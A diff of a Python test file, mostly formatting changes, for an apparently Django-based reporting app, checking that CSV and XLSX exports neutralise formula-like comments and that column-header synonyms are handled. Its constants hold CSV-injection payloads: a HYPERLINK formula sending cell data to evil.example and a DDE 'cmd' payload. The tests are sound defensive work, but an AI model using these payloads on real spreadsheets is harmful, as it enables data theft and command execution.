@@ -31,6 +31,7 @@ def english():
     with translation.override("en"):
         yield
 
+
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 HOSTILE = [HYPERLINK, "+1+1", "-2+3 cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 REPORTER = "reporter-shuangcheng"
@@ -49,21 +50,28 @@ def _november(code: str) -> DataValue:
 
 
 def _set_comment(code: str, comment: str, value="0.6") -> None:
-    datavalue_set(actor=_reporter(), measure=Measure.objects.get(code=code),
-                  orgunit=OrgUnit.objects.get(code=SHUANGCHENG), period="202311",
-                  value=Decimal(value), comment=comment)
+    datavalue_set(
+        actor=_reporter(),
+        measure=Measure.objects.get(code=code),
+        orgunit=OrgUnit.objects.get(code=SHUANGCHENG),
+        period="202311",
+        value=Decimal(value),
+        comment=comment,
+    )
 
 
 def _export_csv() -> str:
     out = io.StringIO()
-    services.export_csv(user=_reporter(), plan=Plan.objects.get(code=PLAN),
-                        period=Period.parse("202311"), out=out)
+    services.export_csv(
+        user=_reporter(), plan=Plan.objects.get(code=PLAN), period=Period.parse("202311"), out=out
+    )
     return out.getvalue()
 
 
 def _export_xlsx() -> bytes:
-    return services.export_xlsx(user=_reporter(), plan=Plan.objects.get(code=PLAN),
-                                period=Period.parse("202311"))
+    return services.export_xlsx(
+        user=_reporter(), plan=Plan.objects.get(code=PLAN), period=Period.parse("202311")
+    )
 
 
 def _runs_as_formula(text: str) -> bool:
@@ -71,6 +79,7 @@ def _runs_as_formula(text: str) -> bool:
 
 
 # --- exports that are safe to open -------------------------------------------------------------
+
 
 def test_a_formula_comment_imported_through_the_service_is_not_a_formula_in_a_csv_export(demo):
     quoted = '"' + HYPERLINK.replace('"', '""') + '"'
@@ -107,8 +116,9 @@ def test_an_xlsx_export_stores_formula_like_comments_as_text(demo, comment):
     data = _export_xlsx()
     sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
     header = {cell.value: cell.column for cell in sheet[1]}
-    row = next(r for r in sheet.iter_rows(min_row=2)
-               if r[header["indicator"] - 1].value == "ZR-I10")
+    row = next(
+        r for r in sheet.iter_rows(min_row=2) if r[header["indicator"] - 1].value == "ZR-I10"
+    )
     cell = row[header["comment"] - 1]
     assert cell.data_type == "s" and cell.value == comment
     assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
@@ -121,9 +131,11 @@ def test_an_xlsx_export_stores_formula_like_comments_as_text(demo, comment):
 
 def test_the_entry_template_stores_a_formula_like_comment_as_text(demo):
     _set_comment("ZR-I10", HYPERLINK)
-    _name, data = services.entry_template(user=_reporter(),
-                                          orgunit=OrgUnit.objects.get(code=SHUANGCHENG),
-                                          period=Period.parse("202311"))
+    _name, data = services.entry_template(
+        user=_reporter(),
+        orgunit=OrgUnit.objects.get(code=SHUANGCHENG),
+        period=Period.parse("202311"),
+    )
     sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
     cells = [c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK]
     assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
@@ -131,17 +143,22 @@ def test_the_entry_template_stores_a_formula_like_comment_as_text(demo):
 
 # --- headers: synonyms accepted, anything else refused -------------------------------------------
 
+
 def test_a_comment_column_headed_beizhu_imports_the_comments(demo):
-    data = ("指标,单位,期间,数值,备注\n"
-            f"ZR-I10,{SHUANGCHENG},202311,0.6,签约2个项目\n")
+    data = f"指标,单位,期间,数值,备注\nZR-I10,{SHUANGCHENG},202311,0.6,签约2个项目\n"
     assert _import(data.encode()) == 1
     assert _november("ZR-I10").comment == "签约2个项目"
 
 
-@pytest.mark.parametrize("header", ["indicator code,orgunit,month,amount,note",
-                                    "指标代码,单位代码,月份,本月,情况说明",
-                                    "指標,單位,期間,數值,備註",
-                                    "Indicator,Org Unit,Period,Value,Remarks"])
+@pytest.mark.parametrize(
+    "header",
+    [
+        "indicator code,orgunit,month,amount,note",
+        "指标代码,单位代码,月份,本月,情况说明",
+        "指標,單位,期間,數值,備註",
+        "Indicator,Org Unit,Period,Value,Remarks",
+    ],
+)
 def test_usual_synonyms_of_each_column_are_read(demo, header):
     data = f"{header}\nZR-I10,{SHUANGCHENG},202311,0.6,合同已签\n"
     assert _import(data.encode()) == 1
@@ -149,12 +166,15 @@ def test_usual_synonyms_of_each_column_are_read(demo, header):
     assert _november("ZR-I10").comment == "合同已签"
 
 
-@pytest.mark.parametrize("header, named", [
-    ("指标,单位,期间,数值,备注x", "备注x"),
-    ("indicator,unit,period,value,coment", "coment"),
-    ("indicator,unit,period,valeu,comment", "valeu"),
-    ("indicator,unit,period,value,comment,my notes", "my notes"),
-])
+@pytest.mark.parametrize(
+    "header, named",
+    [
+        ("指标,单位,期间,数值,备注x", "备注x"),
+        ("indicator,unit,period,value,coment", "coment"),
+        ("indicator,unit,period,valeu,comment", "valeu"),
+        ("indicator,unit,period,value,comment,my notes", "my notes"),
+    ],
+)
 def test_an_unknown_or_misspelt_header_is_refused_with_the_accepted_ones(demo, header, named):
     _set_comment("ZR-I10", "kept")
     before = snapshot()
@@ -198,13 +218,15 @@ def test_the_refusal_is_in_the_users_language(demo):
 def test_no_spelling_names_two_columns_in_any_language():
     owners = defaultdict(set)
     for key, msgid in columns.LABELS.items():
-        for name in columns._spellings(msgid, key) | set(map(columns.normalize,
-                                                             columns.SYNONYMS[key])):
+        for name in columns._spellings(msgid, key) | set(
+            map(columns.normalize, columns.SYNONYMS[key])
+        ):
             owners[name].add(key)
     assert {name: keys for name, keys in owners.items() if len(keys) > 1} == {}
 
 
 # --- comments are never blanked by a file that does not carry them --------------------------------
+
 
 def test_a_csv_without_a_comment_column_keeps_the_stored_comments(demo):
     _set_comment("ZR-I10", "签约2个项目")
@@ -223,29 +245,37 @@ def test_an_xlsx_without_a_comment_column_keeps_the_stored_comments(demo):
     sheet.append(["指标", "单位", "期间", "数值"])
     sheet.append(["ZR-I10", SHUANGCHENG, "202311", 0.8])
     assert _import(save(book), name="figures.xlsx") == 1
-    assert (_november("ZR-I10").value, _november("ZR-I10").comment) == (Decimal("0.8"),
-                                                                       "签约2个项目")
+    assert (_november("ZR-I10").value, _november("ZR-I10").comment) == (
+        Decimal("0.8"),
+        "签约2个项目",
+    )
 
 
 def test_an_empty_comment_cell_under_a_comment_header_still_clears_the_comment(demo):
     _set_comment("ZR-I10", "old")
-    assert _import(f"indicator,unit,period,value,备注\nZR-I10,{SHUANGCHENG},202311,0.7,\n"
-                   .encode()) == 1
+    assert (
+        _import(f"indicator,unit,period,value,备注\nZR-I10,{SHUANGCHENG},202311,0.7,\n".encode())
+        == 1
+    )
     assert _november("ZR-I10").comment == ""
 
 
 # --- the API's CSV body reads its header the same way ---------------------------------------------
 
+
 def test_the_api_csv_accepts_the_same_synonyms_and_refuses_unknown_headers():
     from pacesetter.api.payloads import _csv_payload
     from pacesetter.core.exceptions import DomainError
 
-    payload = _csv_payload(f"指标,单位,期间,数值,备注\nZR-I10,{SHUANGCHENG},202311,0.6,签约\n"
-                           .encode(), PLAN)
-    assert [(v.indicator, v.value, v.comment) for v in payload.values] == [("ZR-I10", "0.6",
-                                                                            "签约")]
+    payload = _csv_payload(
+        f"指标,单位,期间,数值,备注\nZR-I10,{SHUANGCHENG},202311,0.6,签约\n".encode(), PLAN
+    )
+    assert [(v.indicator, v.value, v.comment) for v in payload.values] == [
+        ("ZR-I10", "0.6", "签约")
+    ]
     with pytest.raises(DomainError) as caught:
-        _csv_payload(f"indicator,unit,period,value,备注x\nZR-I10,{SHUANGCHENG},202311,0.6,x\n"
-                     .encode(), PLAN)
+        _csv_payload(
+            f"indicator,unit,period,value,备注x\nZR-I10,{SHUANGCHENG},202311,0.6,x\n".encode(), PLAN
+        )
     assert caught.value.code == "invalid_csv"
     assert "备注x" in caught.value.message and "Accepted headers" in caught.value.message
